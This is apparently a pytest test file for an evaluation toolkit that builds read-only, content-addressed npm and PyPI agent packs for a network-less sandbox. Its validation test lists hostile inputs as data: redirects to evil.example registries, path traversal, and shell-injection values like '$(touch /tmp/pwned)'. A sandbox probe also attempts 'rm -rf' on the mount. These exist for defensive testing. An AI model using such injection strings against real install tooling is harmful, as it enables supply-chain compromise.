"""Agent packs: content-addressed, built once (even when raced), atomic, read-only, usable in the
network-less sandbox as uid 1000 at /evalkit/agent."""

from __future__ import annotations

import json
import stat
import threading
from pathlib import Path
from typing import Any

import pytest

from evalkit.bakeoff import packs
from evalkit.bakeoff.adapters import DEFAULT_VERSIONS, get_adapter
from evalkit.bakeoff.packs import (
    MANIFEST_FILE,
    PACK_MOUNT,
    PackSpec,
    default_cache_dir,
    ensure_pack,
    pack_key,
    read_manifest,
)
from evalkit.errors import InfraError, UsageError

from .conftest import BASE_IMAGE, build_pack

TINY_NPM = PackSpec(
    "npm", "is-number", "7.0.0", (("is-number", "node_modules/is-number/index.js"),)
)
TINY_PYPI = PackSpec("pypi", "six", "1.17.0")


def test_key_covers_what_changes_the_install() -> None:
    k = pack_key(TINY_PYPI, "sha256:aaa")
    assert pack_key(TINY_PYPI._replace(version="1.16.0"), "sha256:aaa") != k
    assert pack_key(TINY_PYPI, "sha256:bbb") != k  # a rebuilt base image gets a new venv
    assert pack_key(TINY_PYPI._replace(extra=("requests==2.32.3",)), "sha256:aaa") != k
    # npm packs run native binaries, not the image's interpreter: the image does not matter.
    assert pack_key(TINY_NPM, "sha256:aaa") == pack_key(TINY_NPM, "sha256:bbb")


def test_cache_dir_follows_evalkit_cache(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.setenv("EVALKIT_CACHE", str(tmp_path))
    assert default_cache_dir() == tmp_path / "packs"
    monkeypatch.delenv("EVALKIT_CACHE")
    assert default_cache_dir() == Path.home() / ".cache" / "evalkit" / "packs"


@pytest.mark.parametrize(
    "spec",
    [
        PackSpec("npm", "--registry=http://evil.example", "1.0.0"),
        PackSpec("npm", "is-number", "7.0.0 --registry=http://evil.example"),
        PackSpec("npm", "git+https://evil.example/x.git", "1.0.0"),
        PackSpec("npm", "../../etc", "1.0.0"),
        PackSpec("pypi", "six", "1.0; touch /tmp/pwned"),
        PackSpec("pypi", "six", ">=1.0"),
        PackSpec("pypi", "six @ https://evil.example/six.whl", "1.0"),
        PackSpec("pypi", "six", "1.17.0", extra=("--index-url=http://evil.example",)),
        PackSpec("pypi", "six", "1.17.0", extra=("$(touch /tmp/pwned)",)),
    ],
)
def test_only_plain_registry_names_and_exact_versions(spec: PackSpec, tmp_path: Path) -> None:
    with pytest.raises(UsageError):
        ensure_pack(spec, cache_dir=tmp_path)
    assert list(tmp_path.iterdir()) == []


def test_npm_pack_is_built_once_read_only_with_a_manifest(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, npm: str
) -> None:
    logs: list[str] = []
    pack = ensure_pack(TINY_NPM, cache_dir=tmp_path, log=logs.append)
    manifest = read_manifest(pack.path)
    assert manifest.resolved == {"is-number": "7.0.0"}
    assert manifest.key == pack.key and pack.key in pack.path.name
    assert (pack.path / "bin" / "is-number").resolve() == (
        pack.path / "node_modules/is-number/index.js"
    ).resolve()
    for p in [pack.path, *pack.path.rglob("*")]:
        if not p.is_symlink():
            assert p.stat().st_mode & 0o222 == 0, p  # no write bit anywhere
            assert p.stat().st_mode & stat.S_IROTH, p  # and readable by the agent's uid
    assert not any(p.name.startswith(".build-") for p in tmp_path.iterdir())
    # A second ensure never reinstalls: it may not even call npm.
    monkeypatch.setattr(packs, "_build_npm", lambda *a: pytest.fail("reinstalled"))
    again = ensure_pack(TINY_NPM, cache_dir=tmp_path, log=logs.append)
    assert again == pack and len([m for m in logs if m.startswith("installing")]) == 1


def test_racing_ensures_build_once(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, npm: str
) -> None:
    calls: list[int] = []
    real = packs._build_npm

    def counting(spec: PackSpec, dest: Path) -> dict[str, str]:
        calls.append(1)
        return real(spec, dest)

    monkeypatch.setattr(packs, "_build_npm", counting)
    results: list[Any] = []
    threads = [
        threading.Thread(
            target=lambda: results.append(
                ensure_pack(TINY_NPM, cache_dir=tmp_path, log=lambda m: None)
            )
        )
        for _ in range(3)
    ]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert len(calls) == 1 and len(set(results)) == 1


def test_failed_build_leaves_nothing_behind(tmp_path: Path, npm: str) -> None:
    spec = TINY_NPM._replace(version="0.0.0-does-not-exist")
    # Debris of an earlier build killed mid-way is cleared too.
    stale = tmp_path / f".build-{pack_key(spec, None)}-killed"
    (stale / "node_modules").mkdir(parents=True)
    (stale / "node_modules").chmod(0o555)
    with pytest.raises(InfraError):
        ensure_pack(
            TINY_NPM._replace(version="0.0.0-does-not-exist"),
            cache_dir=tmp_path,
            log=lambda m: None,
        )
    assert [p.name for p in tmp_path.iterdir() if not p.name.endswith(".lock")] == []


def test_missing_binary_fails_the_build(tmp_path: Path, npm: str) -> None:
    with pytest.raises(InfraError, match="no file matches"):
        ensure_pack(
            TINY_NPM._replace(bins=(("x", "node_modules/nope/*"),)),
            cache_dir=tmp_path,
            log=lambda m: None,
        )
    assert [p.name for p in tmp_path.iterdir() if not p.name.endswith(".lock")] == []


@pytest.mark.docker
def test_pypi_pack_runs_in_the_sandbox_read_only(docker_engine: Any, tmp_path: Path) -> None:
    pack = ensure_pack(TINY_PYPI, cache_dir=tmp_path, client=docker_engine, log=lambda m: None)
    manifest = pack.manifest()
    assert manifest.resolved["six"] == "1.17.0"
    assert manifest.base_image_id == docker_engine.images.get(BASE_IMAGE).id
    # The venv's interpreter is the image's, at the path the sandbox mounts the pack.
    assert "home = /usr/bin\n" in (pack.path / "venv/pyvenv.cfg").read_text()
    assert (pack.path / "venv/bin/pip").read_text().startswith(f"#!{PACK_MOUNT}/venv/bin/python")
    probe = (
        f"{PACK_MOUNT}/venv/bin/python -c 'import six; print(six.__version__)' && "
        f"! touch {PACK_MOUNT}/venv/evil 2>/dev/null && ! rm -rf {PACK_MOUNT}/venv 2>/dev/null"
    )
    out = docker_engine.containers.run(
        BASE_IMAGE,
        ["sh", "-c", probe],
        remove=True,
        network_mode="none",
        user="1000:1000",
        cap_drop=["ALL"],
        volumes={str(pack.path): {"bind": PACK_MOUNT, "mode": "ro"}},
    )
    assert out.decode().strip() == "1.17.0"
    assert (pack.path / "venv/bin/python").exists()


@pytest.mark.docker
@pytest.mark.agents
@pytest.mark.parametrize("name", list(DEFAULT_VERSIONS))
def test_agent_packs_record_what_got_installed(
    name: str, docker_engine: Any, pack_cache: Path
) -> None:
    pack = build_pack(name, pack_cache, docker_engine)
    spec = get_adapter(name).pack_spec("")
    assert spec is not None
    manifest = json.loads((pack.path / MANIFEST_FILE).read_text())
    assert manifest["resolved"][spec.package] == DEFAULT_VERSIONS[name]
    for bin_name, _ in spec.bins:
        assert (pack.path / "bin" / bin_name).resolve().is_file()
    if spec.ecosystem == "npm":
        # The native binary came as the platform optional dependency.
        assert any(
            k.startswith(f"{spec.package}-linux-")
            or k.startswith(f"{spec.package}@")
            or "-linux-" in k
            for k in manifest["resolved"]
        )
